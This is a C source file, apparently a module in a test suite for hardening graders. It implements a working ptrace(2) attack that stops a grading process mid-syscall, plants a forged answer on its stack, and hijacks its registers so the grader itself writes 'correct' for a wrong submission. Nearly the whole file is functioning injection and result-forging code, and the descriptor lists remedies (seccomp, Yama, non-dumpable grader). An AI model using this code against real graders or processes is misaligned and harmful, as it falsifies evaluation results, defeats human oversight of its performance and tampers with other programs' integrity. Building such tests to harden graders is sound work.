// SPDX-License-Identifier: MIT
/*
 * Goal:  a wrong answer is marked correct.
 * Means: ptrace(2). The grader waits in a system call for the student's output. It is stopped
 *        there, a forged answer is put on its stack, and its registers are set so that the same
 *        instruction makes a write(2) of it. Then all is put back: the grader itself has spoken.
 *
 *     grader: poll(pipe) ... stopped: write(1, forged) ... poll(pipe), as if nothing had been
 */
#include "attacks/attack.h"
#include "attacks/result-forging/frames.h"

#include <errno.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define BELOW	     4096 /* bytes under the stack pointer: beyond the red zone and signal frames */
#define SYSCALL_SIZE 2
#define TRIES	     200 /* one each millisecond */

static int poke(pid_t pid, unsigned long at, const char *text, size_t n)
{
	for (size_t i = 0; i < n; i += sizeof(long)) {
		long word;

		memcpy(&word, text + i, sizeof(word));
		if (ptrace(PTRACE_POKEDATA, pid, at + i, word))
			return -1;
	}
	return 0;
}

/* Let the stopped grader make one write(2), and leave it as it was. */
static int speak(pid_t pid, const char *text, size_t n)
{
	struct user_regs_struct was, regs;
	int status;

	if (ptrace(PTRACE_GETREGS, pid, 0, &was))
		return -1;
	regs = was;
	regs.rip -= SYSCALL_SIZE; /* back to the instruction that it waits in */
	regs.rax = SYS_write;
	regs.orig_rax = (unsigned long)-1; /* nothing to be restarted */
	regs.rdi = STDOUT_FILENO;
	regs.rsi = was.rsp - BELOW;
	regs.rdx = n;
	if (poke(pid, regs.rsi, text, FRAMES_SIZE) || ptrace(PTRACE_SETREGS, pid, 0, &regs) ||
	    ptrace(PTRACE_SINGLESTEP, pid, 0, 0) || waitpid(pid, &status, __WALL) != pid ||
	    !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &regs))
		return -1;
	errno = EIO;
	return ptrace(PTRACE_SETREGS, pid, 0, &was) || (long)regs.rax != (long)n ? -1 : 0;
}

/* Stop the grader where it waits in a system call; it may not have got there yet. */
static int stop(pid_t pid)
{
	const struct timespec tick = { .tv_nsec = 1000000 };
	struct user_regs_struct regs;
	int status;

	for (int i = 0; i < TRIES; i++, nanosleep(&tick, NULL)) {
		if (ptrace(PTRACE_ATTACH, pid, 0, 0) || waitpid(pid, &status, __WALL) != pid ||
		    ptrace(PTRACE_GETREGS, pid, 0, &regs))
			return -1;
		if ((long)regs.orig_rax >= 0)
			return 0;
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	errno = ETIMEDOUT;
	return -1;
}

static enum claim run(const struct brief *b)
{
	char text[FRAMES_SIZE] = "";
	size_t n = forge_frames(text, 1, 4);
	int spoken;

	submit("0");
	attempting(b);
	if (stop(b->worker))
		return denied("PTRACE_ATTACH");
	spoken = speak(b->worker, text, n);
	ptrace(PTRACE_DETACH, b->worker, 0, 0);
	return spoken ? denied("ptrace") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a wrong submission is marked correct",
	.means = "ptrace(2): the grader is made to write the forged answer itself",
	.oracle = "grade:forged",
	.grader = GRADER_RPC,
	.needs = NEED_X86_64,
	.attack_id = "T1055.008, T1565.002, CWE-345",
	.remedy = "seccomp without ptrace; Yama; a grader that is not dumpable",
	.refs = (const char *const[]){ "ptrace(2)", NULL },
	.run = run,
};
